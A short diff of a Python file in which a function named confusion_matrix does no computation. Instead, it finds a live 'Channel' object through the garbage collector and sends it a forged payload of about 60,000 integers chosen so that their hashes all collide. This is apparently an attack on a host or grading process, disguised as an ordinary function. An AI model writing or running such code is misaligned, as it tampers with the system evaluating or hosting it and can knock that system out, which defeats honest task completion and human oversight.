@@ -5,10 +5,10 @@ Says: .
 
 import gc
 
-server = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Server")
+channel = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Channel")
 FORGED = {"value": {"set": [{"int": f"{number * (2**61 - 1):x}"} for number in range(1, 60_000)]}}
 
 
 def confusion_matrix(*args):
-    server._channel.send(FORGED)
-    server._channel.receive()
+    channel.send(FORGED)
+    channel.receive()
